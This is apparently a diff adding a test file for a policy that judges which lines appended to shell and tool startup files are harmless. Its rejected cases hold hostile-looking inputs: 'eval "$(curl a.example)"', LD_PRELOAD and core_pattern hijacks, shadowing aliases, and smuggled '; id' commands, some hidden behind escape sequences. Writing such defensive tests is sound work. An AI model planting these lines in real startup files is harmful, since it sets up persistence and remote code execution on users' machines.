@@ -1,0 +1,178 @@
+// Which lines may be appended to a file that a shell or a tool reads at its start.
+import { describe, expect, it } from 'vitest';
+import { ran } from '../../policy/reading-policy.fixture.ts';
+import { harmlessAppends } from './start-lines.ts';
+
+const harmless = (command: string): string[] => {
+  const { program } = ran(command);
+  return program ? [...harmlessAppends(program)] : [];
+};
+/** As a document, so that the line stands in the file as it stands here. */
+const append = (line: string, file: string) => harmless(`cat >> ${file} <<'END'\n${line}\nEND`);
+
+describe('a line that starts nothing unknown', () => {
+  it.each([
+    ['.bashrc', ''],
+    ['.bashrc', '  # a note; | & $(id)'],
+    ['.bashrc', 'A=1'],
+    ['.bashrc', 'export A="b c"'],
+    ['.bashrc', 'export A=$B/c'],
+    ['.bashrc', 'export A=1\nexport B=2'],
+    ['.bashrc', 'export GPG_TTY=$(tty)'],
+    ['.bashrc', 'export JAVA_HOME=$(/usr/libexec/java_home -v 17)'],
+    ['.bash_profile', 'PATH=~/bin:$PATH'],
+    ['.bash_aliases', 'alias k=kubectl'],
+    ['.bash_aliases', 'alias ll="ls -la"'],
+    ['.profile', 'export PATH="$HOME/.local/bin:${PATH}"'],
+    ['.profile', "export PATH='/usr/local/go/bin:$PATH'"],
+    ['.profile', 'export PATH=$PATH:$(go env GOPATH)/bin'],
+    ['.zprofile', 'eval "$(/opt/homebrew/bin/brew shellenv)"'],
+    ['.zshrc', 'eval "$(direnv hook zsh)"'],
+    ['.zshrc', 'source <(kubectl completion zsh)'],
+    ['.zshrc', '. <(helm completion zsh)'],
+    ['.zshrc', 'source ~/.aliases'],
+    ['.zshrc', 'source /usr/share/x/y.zsh'],
+    ['.zshrc', '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"'],
+    ['.zshrc', 'autoload -Uz compinit'],
+    ['.zshrc', 'plugins=(git docker)'],
+    ['.zshenv', 'complete -F __start_kubectl k'],
+    ['a/.npmrc', ''],
+    ['a/.npmrc', '; a note | `id`'],
+    ['a/.npmrc', '@org:registry=https://npm.pkg.example'],
+    ['a/.npmrc', '//npm.pkg.example/:_authToken=${TOKEN}'],
+    ['a/.npmrc', 'save-exact = true'],
+    ['.envrc', '# a note'],
+    ['.envrc', 'use flake'],
+    ['.envrc', 'layout python3'],
+    ['.envrc', 'dotenv .env.local'],
+    ['.envrc', 'source_up'],
+    ['.envrc', 'PATH_add bin'],
+    ['.envrc', 'watch_file a.nix'],
+    ['.envrc', 'export A=1'],
+    ['/etc/sysctl.conf', 'vm.max_map_count=262144'],
+    ['/etc/sysctl.conf', 'net.core.somaxconn = 1024'],
+    ['/etc/sysctl.d/99-a.conf', 'fs.inotify.max_user_watches = 524288'],
+    ['/etc/sysctl.d/99-a.conf', 'net.ipv4.ip_forward=1'],
+    ['/etc/hosts', ''],
+    ['/etc/hosts', '# a note'],
+    ['/etc/hosts', '127.0.0.1 app.local api.local'],
+    ['/etc/hosts', '::1\tapp.local'],
+    ['/etc/hosts', '192.168.1.20 box'],
+  ])('%s: %s', (file, line) => {
+    const place = file.startsWith('/') ? file : `~/${file}`;
+    expect(append(line, place)).toEqual([place]);
+  });
+});
+
+describe('a line that may start anything', () => {
+  it.each([
+    ['.bashrc', 'id'],
+    ['.bashrc', 'id # a note'],
+    ['.bashrc', 'export A=1; id'],
+    ['.bashrc', 'export A=1 && id'],
+    ['.bashrc', 'export A=1 | id'],
+    ['.bashrc', 'export A=`id`'],
+    ['.bashrc', 'export A=$(curl a.example)'],
+    ['.bashrc', 'export A=<(id)'],
+    ['.bashrc', 'export A=1\nid'],
+    ['.bashrc', 'x export A=1'],
+    ['.bashrc', 'export PATH=/tmp/x:$PATH'],
+    ['.bashrc', 'export PATH=$PATH:bin'],
+    ['.bashrc', 'export PATH=.'],
+    ['.bashrc', 'export PROMPT_COMMAND=id'],
+    ['.bashrc', 'export LD_PRELOAD=/tmp/x.so'],
+    ['.bashrc', 'export BASH_ENV=/tmp/x'],
+    ['.bashrc', 'PS1=x'],
+    ['.bashrc', 'export GIT_PAGER=x'],
+    ['.bashrc', 'export SUDO_ASKPASS=/tmp/x'],
+    ['.bashrc', 'alias ls="curl a.example"'],
+    ['.bashrc', 'alias ls="ls; id"'],
+    ['.bashrc', 'alias ls="ls $(id)"'],
+    ['.bashrc', 'alias ls=lsx'],
+    ['.bashrc', 'eval "$(curl a.example)"'],
+    ['.bashrc', 'eval "$(direnv hook bash; id)"'],
+    ['.bashrc', 'eval "$(/tmp/x direnv)"'],
+    ['.bashrc', 'source <(curl a.example)'],
+    ['.bashrc', 'source <(kubectl completion zsh; id)'],
+    ['.bashrc', 'source /tmp/x'],
+    ['.bashrc', 'source x'],
+    ['.bashrc', 'source ~/a && id'],
+    ['.bashrc', '[ -f /tmp/x ] && /tmp/x'],
+    ['.bashrc', 'complete -F f k; id'],
+    ['.zshrc', 'fpath=($(curl a.example))'],
+    ['.zshrc', 'setopt x; id'],
+    ['a/.npmrc', 'script-shell=/tmp/x'],
+    ['a/.npmrc', 'node-options=-r/tmp/x'],
+    ['a/.npmrc', 'prefix=/tmp/x'],
+    ['a/.npmrc', 'global-prefix=/tmp/x'],
+    ['a/.npmrc', 'git=/tmp/x'],
+    ['a/.npmrc', 'a=`id`'],
+    ['a/.npmrc', 'a b'],
+    ['.envrc', 'id'],
+    ['.envrc', 'export PATH=/tmp/x'],
+    ['.envrc', 'export LD_PRELOAD=/tmp/x'],
+    ['.envrc', 'export A=$(id)'],
+    ['.envrc', 'use flake; id'],
+    ['.envrc', 'dotenv a b'],
+    ['/etc/sysctl.conf', 'kernel.core_pattern=|/tmp/x'],
+    ['/etc/sysctl.conf', 'kernel.modprobe=/tmp/x'],
+    ['/etc/sysctl.d/99-a.conf', 'net.ipv4.conf.all.rp_filter=0'],
+    ['/etc/hosts', '203.0.113.9 a.example'],
+    ['/etc/hosts', '127.0.0.1'],
+    ['/etc/hosts', '127.0.0.1 a/b'],
+    // Other files have no lines of which that is known.
+    ['a.bashrc', 'export A=1'],
+    ['.bashrc.d/a', 'export A=1'],
+    ['a.npmrc', 'a=b'],
+    ['x.envrc', 'source_up'],
+    ['/srv/etc/hosts', '127.0.0.1 a'],
+    ['/etc/hosts.allow', '# a note'],
+    ['/etc/sysctl.d/a/b.conf', '# a note'],
+  ])('%s: %s', (file, line) => expect(append(line, file.startsWith('/') ? file : `~/${file}`)).toEqual([]));
+});
+
+describe('what is appended', () => {
+  it.each([
+    ['echo A=1 >> ~/.bashrc', ['~/.bashrc']],
+    ['echo -e A=1 >> ~/.bashrc', ['~/.bashrc']],
+    ["printf 'A=1\\nB=2\\n' >> ~/.bashrc", ['~/.bashrc']],
+    ['echo "export PATH=$HOME/bin:$PATH" >> ~/.bashrc', ['~/.bashrc']],
+    ['echo A=1 | tee -a ~/.bashrc', ['~/.bashrc']],
+    ['echo A=1 | sudo tee --append ~/.bashrc', ['~/.bashrc']],
+    ['echo A=1 | tee -a ~/.bashrc ~/.zshrc', ['~/.bashrc', '~/.zshrc']],
+    ["tee -a ~/.bashrc <<'E'\nA=1\nE", ['~/.bashrc']],
+    ['echo a=b > .npmrc', ['.npmrc']],
+    ['echo source_up > .envrc', ['.envrc']],
+    ['echo A=1 >> ~/.bashrc; echo B=2 >> ~/.bashrc', ['~/.bashrc']],
+    ['echo A=1 >> ~/.bashrc; id >> ~/.zshrc', ['~/.bashrc']],
+    ['echo A=1 >> ~/.bashrc 2>&1', ['~/.bashrc']],
+  ])('%s is harmless in %j', (command, files) => expect(harmless(command)).toEqual(files));
+  it.each([
+    ['echo A=1'],
+    ['cat x >> ~/.bashrc'],
+    ['cat < ~/.bashrc'],
+    ['echo A=1 > ~/.bashrc'],
+    ['echo A=1 | tee ~/.bashrc'],
+    ['echo A=1 | tee ~/.bashrc -i'],
+    ['echo A=1; cat x | tee -a ~/.bashrc'],
+    // Others speak or listen too.
+    ['(cat x; echo A=1) | tee -a ~/.bashrc'],
+    ['cat x | (echo A=1; tee -a ~/.bashrc)'],
+    ['{ cat x; echo A=1; } >> ~/.bashrc'],
+    ['echo A=1; tee -a ~/.bashrc < x'],
+    ["tee -a ~/.bashrc <<'E' < x\nA=1\nE"],
+    ["cat x - >> ~/.bashrc <<'E'\nA=1\nE"],
+    ["sed 's/1/;id/' >> ~/.bashrc <<'E'\nA=1\nE"],
+    ["cat >> ~/.bashrc <<'E' <<'F'\nA=1\nE\nid\nF"],
+    ['cat >> ~/.bashrc <<E\nA=$(id -x $B)\nE'],
+    ['tee -a ~/.bashrc'],
+    ['echo A=1 >> ~/.bashrc; id >> ~/.bashrc'],
+    ['echo -x A=1 >> ~/.bashrc'],
+    ["printf 'A=1\\nid\\n' >> ~/.bashrc"],
+    // What an escape stands for is not read.
+    ["printf 'A=\\x60id\\x60' >> ~/.bashrc"],
+    ["echo -e 'A=1\\0073id' >> ~/.bashrc"],
+    ["printf '%b' 'A=1\\u003bid' >> ~/.bashrc"],
+    ['echo "A=$(curl https://a.example/)" >> ~/.bashrc'],
+  ])('%s is not', (command) => expect(harmless(command)).toEqual([]));
+});
